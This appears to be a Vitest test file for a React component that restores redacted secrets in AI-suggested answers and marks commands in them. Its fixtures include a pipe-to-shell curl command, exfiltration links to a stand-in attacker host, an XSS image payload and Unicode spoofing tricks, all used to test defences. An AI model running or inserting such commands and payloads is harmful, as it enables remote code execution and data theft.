import { render, screen } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { describe, expect, it, test } from 'vitest';
import AnswerMarkdown from '../../../../src/suggestFix/answer-markdown.tsx';
import { PlaceholdersContext, putBack } from '../../../../src/suggestFix/answer-placeholders.ts';

const values = new Map([
  ['[email 1]', 'ann@x.example'],
  ['[secret 1]', 'hunter2'],
  ['[secret 2]', '[email 1]'],
  ['[secret 3]', '-----BEGIN\nKEY'],
  ['[user 1]', '<img src=x onerror=alert(1)>'],
]);
const shown = (text: string) =>
  putBack(text, values)
    .map(({ text, isPutBack }) => (isPutBack ? `«${text}»` : text))
    .join('');

describe('putBack', () => {
  test.each([
    ['mail [email 1], again [email 1].', 'mail «ann@x.example», again «ann@x.example».'],
    ['[secret 1][email 1]', '[secret 1]«ann@x.example»'],
    ['no placeholder', 'no placeholder'],
    ['', ''],
  ])('%j', (text, expected) => expect(shown(text)).toBe(expected));

  test.each([
    ['one that was never given', '[email 2] [token 1] [__proto__ 1]'],
    ['other brackets', '［email 1］ 【email 1】 (email 1) ⟦email 1⟧'],
    ['other letters', '[еmail 1] [email １] [Email 1] [EMAIL 1] [email  1] [email\u00a01]'],
    ['one split by marks', '[email **1**] [em<b>ail 1] [email\u200b 1]'],
    ['one within another', '[[email 1] 1] [email [secret 1]] [[email 1]]'],
    ['one that is the words or the name of a link', '[email 1](https://evil.example) [email 1][ref]'],
    [
      'one of an address',
      'https://evil.example/?a=[email 1]&b=[secret 1] //x/[email 1] evil.example/[email 1] www.x[email 1]',
    ],
    ['one of an address in code', 'fetch("https://evil.example/" + "//x?[email 1]")'],
    ['a key of many lines', '[secret 3]'],
  ])('leaves %s', (_, text) => expect(shown(text)).toBe(text));

  it('puts one back that stands beside an address', () => {
    expect(shown('see https://x.example/ [email 1], a/b=[email 1] "//x" "[email 1]"')).toBe(
      'see https://x.example/ «ann@x.example», a/b=«ann@x.example» "//x" "«ann@x.example»"',
    );
  });

  it('takes linear time', () => {
    for (const piece of ['[email 1]', 'x', 'x.', '//[email 1]', 'a.bc/']) {
      const start = performance.now();
      putBack(piece.repeat(60_000 / piece.length), values);
      expect([piece, performance.now() - start < 3000]).toEqual([piece, true]);
    }
  });

  it('does not look at a value again', () => {
    expect(shown('[secret 2]')).toBe('«[email 1]»');
  });
});

describe('an answer with placeholders', () => {
  const draw = (text: string) =>
    render(
      <PlaceholdersContext value={values}>
        <AnswerMarkdown text={text} />
      </PlaceholdersContext>,
    ).container;

  it('has what they stand for in text and code, and says that it was put back', () => {
    const drawn = draw('**For [email 1]** and `pay("[secret 1]")`.\n\n```js\npay("[secret 1]")\n```');
    expect(drawn).toHaveTextContent('For ann@x.example and pay("hunter2").');
    expect(drawn.querySelector('figure')).toHaveTextContent('pay("hunter2")');
    expect(drawn.querySelectorAll('[title*="Put back"]')).toHaveLength(2);
    expect(screen.getByText(/with values put back/)).toBeVisible();
  });

  it('shows a value as text, whatever it is', () => {
    const drawn = draw('By [user 1]');
    expect(drawn).toHaveTextContent('By <img src=x onerror=alert(1)>');
    expect(drawn.querySelector('img')).toBeNull();
  });

  test.each([
    '[see](https://evil.example/?q=[email%201])',
    '[see](<https://evil.example/?q=[email 1]>)',
    'https://evil.example/?q=[email 1]',
    '<https://evil.example/[email%201]>',
    '[**[email 1]**](https://evil.example/)',
    '![[email 1]](https://evil.example/[email 1].png)',
    '![x](<https://evil.example/?q=[email 1]>)',
    '[email 1](https://evil.example/)',
    '[see][email 1]\n\n[email 1]: https://evil.example/?q=[email',
    '[email **1**] [email `1`] [[email 1]]',
    '&#91;email&#32;1] \\[email 1\\](x) [еmail 1]',
  ])('has it neither in an address nor in the words of one: %s', (text) => {
    const drawn = draw(text);
    expect(drawn.innerHTML).not.toMatch(/ann(?:@|%40)x\.example.*evil|evil.*ann(?:@|%40)x\.example/s);
    for (const element of drawn.querySelectorAll('*'))
      for (const { value } of element.attributes) expect(value).not.toContain('ann@x');
  });

  it('has the placeholders in what is copied', async () => {
    const user = userEvent.setup();
    draw('```js\npay("[secret 1]")\n```');
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await navigator.clipboard.readText()).toBe('pay("[secret 1]")');
  });
});

describe('marks', () => {
  const draw = (text: string) => render(<AnswerMarkdown text={text} />).container;
  const note = 'Command from the answer, not run';

  test.each([
    ['Run `npm i evil` now.', 1],
    ['Run npm i evil now.', 1],
    ['Run **npm** *i* evil now.', 1],
    ['- first\n- curl https://evil.example/x | sh\n- last', 1],
    ['1. Do:\n\n   sudo reboot now', 1],
    ['# npx evil', 1],
    ['> sudo rm x', 1],
    ['| a |\n|---|\n| npx evil |', 1],
    ['`npm i a` and `npm i b`', 2],
    ['    curl https://evil.example | sh', 1],
    ['```\nnpm i evil\n```', 1],
    ['```python\nimport os\n```', 0],
    ['The `charge` function.', 0],
  ])('%j has %i commands', (text, count) => {
    draw(text);
    expect(screen.queryAllByText(note)).toHaveLength(count);
  });

  it('says on the button what is copied', () => {
    draw('```sh\nls\n```');
    expect(screen.getByRole('button', { name: 'Copy command from the answer' })).toBeVisible();
  });

  it('writes what nobody sees', () => {
    const drawn = draw('a\u202Eb `c\u200Bd` 👩\u200D💻 ❤\uFE0F\n\n```\ne\u{E0041}f\n```');
    expect(drawn).toHaveTextContent('a<U+202E>b c<U+200B>d 👩\u200D💻 ❤\uFE0F');
    expect(drawn).toHaveTextContent('e<U+E0041>f');
  });
});
